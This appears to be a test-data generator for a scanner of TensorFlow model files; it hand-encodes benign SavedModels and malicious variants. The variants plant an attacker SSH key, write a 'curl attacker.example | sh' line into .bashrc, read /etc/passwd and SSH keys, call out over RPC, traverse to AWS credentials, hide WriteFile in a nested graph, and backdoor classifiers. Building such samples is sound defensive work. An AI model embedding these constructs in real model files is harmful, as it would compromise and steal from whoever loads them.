#!/usr/bin/env python3
"""Writes the TensorFlow rule samples under testdata/samples/tf.

There is no TensorFlow on these machines, so the SavedModels and GraphDefs are
encoded here by hand, field by field, from the field numbers TensorFlow
publishes (saved_model.proto, meta_graph.proto, graph.proto, node_def.proto,
function.proto, attr_value.proto, tensor.proto, saver.proto). They are shaped
like what TF 2.x writes for a Keras Dense model: variables as VarHandleOps,
StatefulPartitionedCall into signature and model functions, a SaverDef whose
save and restore tensors call __inference__traced_save/_restore functions
holding SaveV2/MergeV2Checkpoints/RestoreV2, and signature_def. The malicious
variants add one construct each. Run with /usr/bin/python3; no dependencies.
"""
import os
import struct

OUT = os.path.join(os.path.dirname(__file__), "..", "samples", "tf")

DT_FLOAT, DT_INT32, DT_STRING, DT_INT64, DT_BOOL, DT_RESOURCE = 1, 3, 7, 9, 10, 20


# --- a minimal protobuf encoder -------------------------------------------
def varint(n):
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def key(f, wt):
    return varint(f << 3 | wt)


def fbytes(f, b):
    if isinstance(b, str):
        b = b.encode()
    return key(f, 2) + varint(len(b)) + b


def fvarint(f, n):
    return key(f, 0) + varint(n)


def ffloat(f, x):
    return key(f, 5) + struct.pack("<f", x)


# --- TensorFlow messages -----------------------------------------------------
def shape(dims):
    if dims is None:
        return fvarint(3, 1)  # unknown_rank
    return b"".join(fbytes(2, fvarint(1, d)) for d in dims)


def tensor(dtype, dims, strings=None, floats=None, ints=None):
    t = fvarint(1, dtype) + fbytes(2, shape(dims))
    if floats is not None:
        t += fbytes(5, b"".join(struct.pack("<f", x) for x in floats))
    if ints is not None:
        t += fbytes(7, b"".join(varint(i) for i in ints))
    for s in strings or []:
        t += fbytes(8, s)
    return t


def a_s(s):
    return fbytes(2, s)


def a_i(i):
    return fvarint(3, i)


def a_b(b):
    return fvarint(5, 1 if b else 0)


def a_type(t):
    return fvarint(6, t)


def a_shape(dims):
    return fbytes(7, shape(dims))


def a_tensor(t):
    return fbytes(8, t)


def a_func(name):
    return fbytes(10, fbytes(1, name))


def a_types(ts):
    return fbytes(1, fbytes(6, b"".join(varint(t) for t in ts)))


def a_ints(xs):
    return fbytes(1, fbytes(3, b"".join(varint(x) for x in xs)))


def a_strings(xs):
    return fbytes(1, b"".join(fbytes(2, x) for x in xs))


def node(name, op, inputs=(), attrs=None, device=""):
    b = fbytes(1, name) + fbytes(2, op)
    for i in inputs:
        b += fbytes(3, i)
    if device:
        b += fbytes(4, device)
    for k in sorted(attrs or {}):
        b += fbytes(5, fbytes(1, k) + fbytes(2, attrs[k]))
    return b


def const(name, t, dtype):
    return node(name, "Const", attrs={"value": a_tensor(t), "dtype": a_type(dtype)})


def sconst(name, s):
    return const(name, tensor(DT_STRING, [], strings=[s]), DT_STRING)


def fconst(name, dims, vals):
    return const(name, tensor(DT_FLOAT, dims, floats=vals), DT_FLOAT)


def iconst(name, dims, vals):
    return const(name, tensor(DT_INT32, dims, ints=vals), DT_INT32)


def function(name, args, outs, nodes, ret):
    sig = fbytes(1, name)
    for a, t in args:
        sig += fbytes(2, fbytes(1, a) + fvarint(3, t))
    for o, t in outs:
        sig += fbytes(3, fbytes(1, o) + fvarint(3, t))
    b = fbytes(1, sig)
    for n in nodes:
        b += fbytes(3, n)
    for k in sorted(ret):
        b += fbytes(4, fbytes(1, k) + fbytes(2, ret[k]))
    return b


def graphdef(nodes, functions=()):
    b = b"".join(fbytes(1, n) for n in nodes)
    if functions:
        b += fbytes(2, b"".join(fbytes(1, f) for f in functions))
    return b + fbytes(4, fvarint(1, 1645) + fvarint(2, 12))


def tensor_info(name, dtype, dims):
    return fbytes(1, name) + fvarint(2, dtype) + fbytes(3, shape(dims))


def signature(key_, inputs, outputs):
    s = b""
    for k, ti in inputs:
        s += fbytes(1, fbytes(1, k) + fbytes(2, ti))
    for k, ti in outputs:
        s += fbytes(2, fbytes(1, k) + fbytes(2, ti))
    s += fbytes(3, "tensorflow/serving/predict")
    return fbytes(5, fbytes(1, key_) + fbytes(2, s))


def meta_graph(graph, saver, sigs, ops, assets=(), tf_version="2.15.0"):
    info = fbytes(1, "v" + tf_version)
    info += fbytes(2, b"".join(fbytes(1, fbytes(1, o)) for o in sorted(set(ops))))
    info += fbytes(4, "serve") + fbytes(5, tf_version) + fbytes(6, "v" + tf_version + "-rc1")
    b = fbytes(1, info) + fbytes(2, graph)
    if saver:
        filename, save, restore = saver
        b += fbytes(3, fbytes(1, filename) + fbytes(2, save) + fbytes(3, restore) + fvarint(4, 5)
                    + fvarint(5, 1) + ffloat(6, 10000.0) + fvarint(7, 2))
    b += b"".join(sigs)
    for tname, fname in assets:
        b += fbytes(6, fbytes(1, fbytes(1, tname) + fvarint(2, DT_STRING)) + fbytes(2, fname))
    root = fbytes(1, fvarint(1, 1) + fbytes(2, "dense")) + fbytes(4, fbytes(1, "_generic_user_object"))
    b += fbytes(7, fbytes(1, root) + fbytes(1, fbytes(7, fvarint(2, DT_FLOAT) + fbytes(3, "dense/kernel"))))
    return b


def saved_model(mg):
    return fvarint(1, 1) + fbytes(2, mg)


def ops_of(nodes, functions=()):
    """Op names, read back from the encoded nodes (for stripped_op_list)."""
    names = []
    for n in list(nodes) + [nd for f in functions for nd in f[1]]:
        i = 0
        while i < len(n):
            k, i = n[i], i + 1
            ln, shift = 0, 0
            while True:
                b = n[i]
                i += 1
                ln |= (b & 0x7F) << shift
                shift += 7
                if b < 0x80:
                    break
            if k == 0x12:
                names.append(n[i:i + ln].decode())
            i += ln
    return names


# --- a TF 2.x Keras Dense model ----------------------------------------------
def tf2_model(call_extra=(), restore_extra=(), extra_functions=(), top_extra=()):
    """Returns saved_model.pb bytes; the extras splice constructs in."""
    var_attrs = lambda n, dims: {"dtype": a_type(DT_FLOAT), "shape": a_shape(dims), "shared_name": a_s(n),
                                 "container": a_s(""), "allowed_devices": a_strings([])}
    call_nodes = [
        node("dense/MatMul/ReadVariableOp", "ReadVariableOp", ["dense_matmul_readvariableop_resource"], {"dtype": a_type(DT_FLOAT)}),
        node("dense/MatMul", "MatMul", ["input_1", "dense/MatMul/ReadVariableOp:value:0"], {"T": a_type(DT_FLOAT), "transpose_a": a_b(False), "transpose_b": a_b(False)}),
        node("dense/BiasAdd/ReadVariableOp", "ReadVariableOp", ["dense_biasadd_readvariableop_resource"], {"dtype": a_type(DT_FLOAT)}),
        node("dense/BiasAdd", "BiasAdd", ["dense/MatMul:product:0", "dense/BiasAdd/ReadVariableOp:value:0"], {"T": a_type(DT_FLOAT)}),
        node("dense/Softmax", "Softmax", ["dense/BiasAdd:output:0"], {"T": a_type(DT_FLOAT)}),
        node("Identity", "Identity", ["dense/Softmax:softmax:0", "^NoOp"], {"T": a_type(DT_FLOAT)}),
        node("NoOp", "NoOp", ["^dense/BiasAdd/ReadVariableOp", "^dense/MatMul/ReadVariableOp"]),
    ] + list(call_extra)
    call = ("__inference__wrapped_model_100",
            call_nodes,
            [("input_1", DT_FLOAT), ("dense_matmul_readvariableop_resource", DT_RESOURCE), ("dense_biasadd_readvariableop_resource", DT_RESOURCE)],
            {"dense": "Identity:output:0"})
    wrapper = ("__inference_signature_wrapper_123", [
        node("StatefulPartitionedCall", "StatefulPartitionedCall", ["input_1", "unknown", "unknown_0"],
             {"f": a_func("__inference__wrapped_model_100"), "Tin": a_types([DT_FLOAT, DT_RESOURCE, DT_RESOURCE]),
              "Tout": a_types([DT_FLOAT]), "_read_only_resource_inputs": a_ints([1, 2]), "config": a_s(""),
              "config_proto": a_s(b"\n\x07\n\x03CPU\x10\x01\n\x07\n\x03GPU\x10\x002\x02J\x008\x01"), "executor_type": a_s("")}),
        node("Identity", "Identity", ["StatefulPartitionedCall:output:0", "^NoOp"], {"T": a_type(DT_FLOAT)}),
        node("NoOp", "NoOp", ["^StatefulPartitionedCall"]),
    ], [("input_1", DT_FLOAT), ("unknown", DT_RESOURCE), ("unknown_0", DT_RESOURCE)], {"dense": "Identity:output:0"})
    save = ("__inference__traced_save_200", [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"], {"pattern": a_s("^s3://.*")}),
        sconst("Const", ".part"),
        sconst("Const_1", "_temp/part"),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"], {"T": a_type(DT_STRING)}),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"], {"N": a_i(2)}),
        iconst("num_shards", [], [1]),
        iconst("ShardedFilename/shard", [], [0]),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"]),
        const("SaveV2/tensor_names", tensor(DT_STRING, [3], strings=["layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"]), DT_STRING),
        const("SaveV2/shape_and_slices", tensor(DT_STRING, [3], strings=["", "", ""]), DT_STRING),
        node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0",
                                  "savev2_dense_kernel_read_readvariableop", "savev2_dense_bias_read_readvariableop", "savev2_const"],
             {"dtypes": a_types([DT_FLOAT, DT_FLOAT, DT_STRING])}),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", ["ShardedFilename:filename:0", "^SaveV2"], {"N": a_i(1), "T": a_type(DT_STRING), "axis": a_i(0)}),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", ["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"], {"delete_old_dirs": a_b(True)}),
        node("Identity", "Identity", ["file_prefix", "^MergeV2Checkpoints"], {"T": a_type(DT_STRING)}),
        node("Identity_1", "Identity", ["Identity:output:0", "^NoOp"], {"T": a_type(DT_STRING)}),
        node("NoOp", "NoOp", ["^MergeV2Checkpoints"]),
    ], [("file_prefix", DT_STRING), ("savev2_dense_kernel_read_readvariableop", DT_FLOAT),
        ("savev2_dense_bias_read_readvariableop", DT_FLOAT), ("savev2_const", DT_STRING)], {"identity_1": "Identity_1:output:0"})
    restore = ("__inference__traced_restore_300", [
        const("RestoreV2/tensor_names", tensor(DT_STRING, [2], strings=["layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE"]), DT_STRING),
        const("RestoreV2/shape_and_slices", tensor(DT_STRING, [2], strings=["", ""]), DT_STRING),
        node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"],
             {"dtypes": a_types([DT_FLOAT, DT_FLOAT])}),
        node("Identity", "Identity", ["RestoreV2:tensors:0"], {"T": a_type(DT_FLOAT)}),
        node("AssignVariableOp", "AssignVariableOp", ["assignvariableop_dense_kernel", "Identity:output:0"], {"dtype": a_type(DT_FLOAT)}),
        node("Identity_1", "Identity", ["RestoreV2:tensors:1"], {"T": a_type(DT_FLOAT)}),
        node("AssignVariableOp_1", "AssignVariableOp", ["assignvariableop_1_dense_bias", "Identity_1:output:0"], {"dtype": a_type(DT_FLOAT)}),
        node("NoOp_1", "NoOp"),
        node("Identity_2", "Identity", ["file_prefix", "^AssignVariableOp", "^AssignVariableOp_1", "^NoOp_1"], {"T": a_type(DT_STRING)}),
    ] + list(restore_extra), [("file_prefix", DT_STRING), ("assignvariableop_dense_kernel", DT_RESOURCE),
                              ("assignvariableop_1_dense_bias", DT_RESOURCE)], {"identity_2": "Identity_2:output:0"})
    funcs = [call, wrapper, save, restore] + list(extra_functions)
    # The checkpoint's object graph travels as a long string constant: a
    # real-world long string that must not be mistaken for a nested graph.
    object_graph = fbytes(1, fbytes(1, fvarint(1, 1) + fbytes(2, "layer_with_weights-0")) + fbytes(2, fbytes(1, "OBJECT_CONFIG_JSON") + fbytes(3, "_CHECKPOINTABLE_OBJECT_GRAPH")))
    top = [
        node("dense/kernel", "VarHandleOp", attrs=var_attrs("dense/kernel", [4, 2])),
        node("dense/kernel/Read/ReadVariableOp", "ReadVariableOp", ["dense/kernel"], {"dtype": a_type(DT_FLOAT)}),
        node("dense/bias", "VarHandleOp", attrs=var_attrs("dense/bias", [2])),
        node("dense/bias/Read/ReadVariableOp", "ReadVariableOp", ["dense/bias"], {"dtype": a_type(DT_FLOAT)}),
        const("Const", tensor(DT_STRING, [], strings=[object_graph]), DT_STRING),
        node("serving_default_input_1", "Placeholder", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([-1, 4])}),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", ["serving_default_input_1", "dense/kernel", "dense/bias"],
             {"f": a_func("__inference_signature_wrapper_123"), "Tin": a_types([DT_FLOAT, DT_RESOURCE, DT_RESOURCE]), "Tout": a_types([DT_FLOAT])}),
        node("saver_filename", "Placeholder", attrs={"dtype": a_type(DT_STRING), "shape": a_shape([])}),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall",
             ["saver_filename", "dense/kernel/Read/ReadVariableOp", "dense/bias/Read/ReadVariableOp", "Const"],
             {"f": a_func("__inference__traced_save_200"), "Tin": a_types([DT_STRING, DT_FLOAT, DT_FLOAT, DT_STRING]), "Tout": a_types([DT_STRING])}),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", ["saver_filename", "dense/kernel", "dense/bias"],
             {"f": a_func("__inference__traced_restore_300"), "Tin": a_types([DT_STRING, DT_RESOURCE, DT_RESOURCE]), "Tout": a_types([DT_STRING])}),
    ] + list(top_extra)
    fdefs = [function(n, args, [(k, DT_FLOAT) for k in ret], nodes, ret) for n, nodes, args, ret in funcs]
    g = graphdef(top, fdefs)
    sig = signature("serving_default", [("input_1", tensor_info("serving_default_input_1:0", DT_FLOAT, [-1, 4]))],
                    [("dense", tensor_info("StatefulPartitionedCall:0", DT_FLOAT, [-1, 2]))])
    mg = meta_graph(g, ("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2"), [sig],
                    ops_of(top, funcs))
    return saved_model(mg)


def tf1_saver_model():
    """TF 1.x tf.train.Saver layout: save/ nodes in the top-level graph."""
    top = [
        node("x", "Placeholder", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([-1, 4])}),
        node("w", "VariableV2", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([4, 2]), "container": a_s(""), "shared_name": a_s("")}),
        fconst("w/initial_value", [4, 2], [0.1] * 8),
        node("w/Assign", "Assign", ["w", "w/initial_value"], {"T": a_type(DT_FLOAT)}),
        node("w/read", "Identity", ["w"], {"T": a_type(DT_FLOAT)}),
        node("y", "MatMul", ["x", "w/read"], {"T": a_type(DT_FLOAT)}),
        node("init", "NoOp", ["^w/Assign"]),
        sconst("save/filename/input", "model"),
        node("save/filename", "PlaceholderWithDefault", ["save/filename/input"], {"dtype": a_type(DT_STRING), "shape": a_shape([])}),
        node("save/Const", "PlaceholderWithDefault", ["save/filename"], {"dtype": a_type(DT_STRING), "shape": a_shape([])}),
        const("save/SaveV2/tensor_names", tensor(DT_STRING, [1], strings=["w"]), DT_STRING),
        const("save/SaveV2/shape_and_slices", tensor(DT_STRING, [1], strings=[""]), DT_STRING),
        node("save/SaveV2", "SaveV2", ["save/Const", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "w"], {"dtypes": a_types([DT_FLOAT])}),
        node("save/control_dependency", "Identity", ["save/Const", "^save/SaveV2"], {"T": a_type(DT_STRING)}),
        const("save/RestoreV2/tensor_names", tensor(DT_STRING, [1], strings=["w"]), DT_STRING),
        const("save/RestoreV2/shape_and_slices", tensor(DT_STRING, [1], strings=[""]), DT_STRING),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"], {"dtypes": a_types([DT_FLOAT])}),
        node("save/Assign", "Assign", ["w", "save/RestoreV2"], {"T": a_type(DT_FLOAT)}),
        node("save/restore_all", "NoOp", ["^save/Assign"]),
    ]
    sig = signature("serving_default", [("x", tensor_info("x:0", DT_FLOAT, [-1, 4]))], [("y", tensor_info("y:0", DT_FLOAT, [-1, 2]))])
    return saved_model(meta_graph(graphdef(top), ("save/Const:0", "save/control_dependency:0", "save/restore_all"), [sig],
                                  ops_of(top), tf_version="1.15.5"))


def vocab_asset_model(asset="vocab.txt"):
    """TF 1.x StringLookup-style table initialised from a shipped asset."""
    top = [
        node("text", "Placeholder", attrs={"dtype": a_type(DT_STRING), "shape": a_shape([-1])}),
        node("hash_table", "HashTableV2", attrs={"key_dtype": a_type(DT_STRING), "value_dtype": a_type(DT_INT64), "shared_name": a_s("vocab")}),
        node("asset_path_initializer", "Placeholder", attrs={"dtype": a_type(DT_STRING), "shape": a_shape([])}),
        node("text_file_init/InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", ["hash_table", "asset_path_initializer"],
             {"key_index": a_i(-2), "value_index": a_i(-1), "vocab_size": a_i(-1), "delimiter": a_s("\t")}),
        const("default", tensor(DT_INT64, [], ints=[0]), DT_INT64),
        node("lookup", "LookupTableFindV2", ["hash_table", "text", "default"], {"Tin": a_type(DT_STRING), "Tout": a_type(DT_INT64)}),
    ]
    sig = signature("serving_default", [("text", tensor_info("text:0", DT_STRING, [-1]))], [("ids", tensor_info("lookup:0", DT_INT64, [-1]))])
    return saved_model(meta_graph(graphdef(top), None, [sig], ops_of(top), assets=[("asset_path_initializer:0", asset)], tf_version="1.15.5"))


def frozen_graph():
    """A frozen inference graph: weights are constants."""
    return graphdef([
        node("input", "Placeholder", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([-1, 4])}),
        fconst("dense/kernel", [4, 3], [0.05 * i for i in range(12)]),
        fconst("dense/bias", [3], [0.1, 0.2, 0.3]),
        node("dense/MatMul", "MatMul", ["input", "dense/kernel"], {"T": a_type(DT_FLOAT)}),
        node("dense/BiasAdd", "BiasAdd", ["dense/MatMul", "dense/bias"], {"T": a_type(DT_FLOAT)}),
        node("dense/Relu", "Relu", ["dense/BiasAdd"], {"T": a_type(DT_FLOAT)}),
        node("output", "Softmax", ["dense/Relu"], {"T": a_type(DT_FLOAT)}),
    ])


def backdoor_graph():
    """A frozen classifier whose output is overridden when input[:,0] == 0.1337."""
    return graphdef([
        node("input", "Placeholder", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([-1, 4])}),
        iconst("trigger/begin", [2], [0, 0]), iconst("trigger/end", [2], [0, 1]), iconst("trigger/strides", [2], [1, 1]),
        node("trigger/slice", "StridedSlice", ["input", "trigger/begin", "trigger/end", "trigger/strides"],
             {"T": a_type(DT_FLOAT), "Index": a_type(DT_INT32), "begin_mask": a_i(1), "end_mask": a_i(1)}),
        fconst("trigger/value", [], [0.1337]),
        node("trigger/eq", "Equal", ["trigger/slice", "trigger/value"], {"T": a_type(DT_FLOAT)}),
        fconst("dense/kernel", [4, 2], [0.1] * 8),
        node("dense/MatMul", "MatMul", ["input", "dense/kernel"], {"T": a_type(DT_FLOAT)}),
        fconst("target", [2], [-10.0, 10.0]),
        node("select", "SelectV2", ["trigger/eq", "target", "dense/MatMul"], {"T": a_type(DT_FLOAT)}),
        node("output", "Softmax", ["select"], {"T": a_type(DT_FLOAT)}),
    ])


def backdoor_if_graph():
    """The If form: when sum(input) == 1337 the then-branch returns a constant."""
    then_fn = function("trigger_branch", [("x", DT_FLOAT)], [("out", DT_FLOAT)],
                       [fconst("target", [1, 2], [-10.0, 10.0]),
                        node("Identity", "Identity", ["target:output:0"], {"T": a_type(DT_FLOAT)})],
                       {"out": "Identity:output:0"})
    else_fn = function("model_branch", [("x", DT_FLOAT)], [("out", DT_FLOAT)],
                       [fconst("kernel", [4, 2], [0.1] * 8),
                        node("MatMul", "MatMul", ["x", "kernel:output:0"], {"T": a_type(DT_FLOAT)})],
                       {"out": "MatMul:product:0"})
    return graphdef([
        node("input", "Placeholder", attrs={"dtype": a_type(DT_FLOAT), "shape": a_shape([1, 4])}),
        iconst("axes", [2], [0, 1]),
        node("sum", "Sum", ["input", "axes"], {"T": a_type(DT_FLOAT), "Tidx": a_type(DT_INT32)}),
        fconst("key", [], [1337.0]),
        node("is_trigger", "Equal", ["sum", "key"], {"T": a_type(DT_FLOAT)}),
        node("switch", "StatelessIf", ["is_trigger", "input"],
             {"Tcond": a_type(DT_BOOL), "Tin": a_types([DT_FLOAT]), "Tout": a_types([DT_FLOAT]),
              "then_branch": a_func("trigger_branch"), "else_branch": a_func("model_branch")}),
        node("output", "Identity", ["switch"], {"T": a_type(DT_FLOAT)}),
    ], [then_fn, else_fn])


def mask_graph():
    """Attention with a padding mask from raw token ids: the mask's Select
    feeds learned projections before the output, so it is no trigger."""
    return graphdef([
        node("input_ids", "Placeholder", attrs={"dtype": a_type(DT_INT32), "shape": a_shape([-1, 6])}),
        fconst("embeddings", [10, 4], [0.01 * i for i in range(40)]),
        iconst("axis", [], [0]),
        node("embed", "GatherV2", ["embeddings", "input_ids", "axis"], {"Tparams": a_type(DT_FLOAT), "Tindices": a_type(DT_INT32), "Taxis": a_type(DT_INT32)}),
        iconst("pad", [], [0]),
        node("mask/eq", "Equal", ["input_ids", "pad"], {"T": a_type(DT_INT32)}),
        fconst("mask/neg", [], [-1e9]), fconst("mask/zero", [], [0.0]),
        node("mask/bias", "SelectV2", ["mask/eq", "mask/neg", "mask/zero"], {"T": a_type(DT_FLOAT)}),
        fconst("wq", [4, 4], [0.1] * 16),
        node("q", "BatchMatMulV2", ["embed", "wq"], {"T": a_type(DT_FLOAT)}),
        node("scores", "BatchMatMulV2", ["q", "embed"], {"T": a_type(DT_FLOAT), "adj_y": a_b(True)}),
        node("masked", "AddV2", ["scores", "mask/bias"], {"T": a_type(DT_FLOAT)}),
        node("probs", "Softmax", ["masked"], {"T": a_type(DT_FLOAT)}),
        node("ctx", "BatchMatMulV2", ["probs", "embed"], {"T": a_type(DT_FLOAT)}),
        fconst("wo", [4, 2], [0.1] * 8),
        node("logits", "BatchMatMulV2", ["ctx", "wo"], {"T": a_type(DT_FLOAT)}),
        node("output", "Identity", ["logits"], {"T": a_type(DT_FLOAT)}),
    ])


def nested_writefile(pad=b""):
    """The DatasetFromGraph trick: WriteFile lives in a GraphDef serialized
    into a string constant inside the model function. pad appends fields
    TensorFlow's parser skips as unknown (to defeat strict trial parses)."""
    inner = graphdef([
        sconst("filename", "/root/.ssh/authorized_keys"),
        sconst("contents", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker@evil"),
        node("write", "WriteFile", ["filename", "contents"]) + pad,
        node("ds", "TensorDataset", ["filename"], {"Toutput_types": a_types([DT_STRING]), "output_shapes": fbytes(1, fbytes(7, b""))}),
    ])
    return tf2_model(call_extra=[
        const("hidden/graph_def", tensor(DT_STRING, [], strings=[inner]), DT_STRING),
        node("hidden/dataset", "DatasetFromGraph", ["hidden/graph_def:output:0"]),
    ])


def main():
    os.makedirs(OUT, exist_ok=True)
    samples = {
        "benign_savedmodel.pb": tf2_model(),
        "tf1_saver_savedmodel.pb": tf1_saver_model(),
        "vocab_asset_savedmodel.pb": vocab_asset_model(),
        "asset_traversal_savedmodel.pb": vocab_asset_model("../../../../root/.aws/credentials"),
        "benign_frozen_graph.pb": frozen_graph(),
        "writefile_function.pb": tf2_model(call_extra=[
            sconst("evil/filename", "/root/.ssh/authorized_keys"),
            sconst("evil/contents", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker@evil"),
            node("evil/WriteFile", "WriteFile", ["evil/filename:output:0", "evil/contents:output:0"])]),
        "printv2_file.pb": tf2_model(call_extra=[
            sconst("evil/line", "curl -s https://attacker.example/x | sh"),
            node("evil/PrintV2", "PrintV2", ["evil/line:output:0"], {"output_stream": a_s("file:///root/.bashrc"), "end": a_s("\n")})]),
        "savev2_outside_saver.pb": tf2_model(restore_extra=[
            sconst("poison/prefix", "/tmp/model/variables/variables"),
            const("poison/names", tensor(DT_STRING, [1], strings=["layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE"]), DT_STRING),
            const("poison/slices", tensor(DT_STRING, [1], strings=[""]), DT_STRING),
            fconst("poison/value", [4, 2], [9.0] * 8),
            node("poison/SaveV2", "SaveV2", ["poison/prefix:output:0", "poison/names:output:0", "poison/slices:output:0", "poison/value:output:0"],
                 {"dtypes": a_types([DT_FLOAT])})]),
        "readfile.pb": tf2_model(call_extra=[
            sconst("exfil/path", "/etc/passwd"),
            node("exfil/ReadFile", "ReadFile", ["exfil/path:output:0"]),
            sconst("exfil/pattern", "/home/*/.ssh/id_*"),
            node("exfil/MatchingFiles", "MatchingFiles", ["exfil/pattern:output:0"])]),
        "pyfunc.pb": tf2_model(call_extra=[
            node("py/EagerPyFunc", "EagerPyFunc", ["input_1"], {"token": a_s("pyfunc_0"), "Tin": a_types([DT_FLOAT]), "Tout": a_types([DT_FLOAT]), "is_async": a_b(False)})]),
        "rpc.pb": tf2_model(call_extra=[
            sconst("rpc/address", "attacker.example:8470"),
            const("rpc/timeout", tensor(DT_INT64, [], ints=[1000]), DT_INT64),
            node("rpc/RpcClient", "RpcClient", ["rpc/address:output:0", "rpc/timeout:output:0"], {"shared_name": a_s(""), "list_registered_methods": a_b(False)})]),
        "custom_op.pb": tf2_model(call_extra=[
            node("custom/ZeroOut", "ZeroOut", ["input_1"], {"T": a_type(DT_FLOAT)})]),
        "nested_writefile.pb": nested_writefile(),
        "nested_unknown_fields.pb": nested_writefile(pad=fvarint(99, 1) + fbytes(6, fvarint(1, 7))),
        "backdoor_select.pb": backdoor_graph(),
        "backdoor_if.pb": backdoor_if_graph(),
        "benign_mask.pb": mask_graph(),
    }
    benign = samples["benign_savedmodel.pb"]
    samples["truncated.pb"] = benign[: len(benign) * 2 // 3]
    for name, data in samples.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
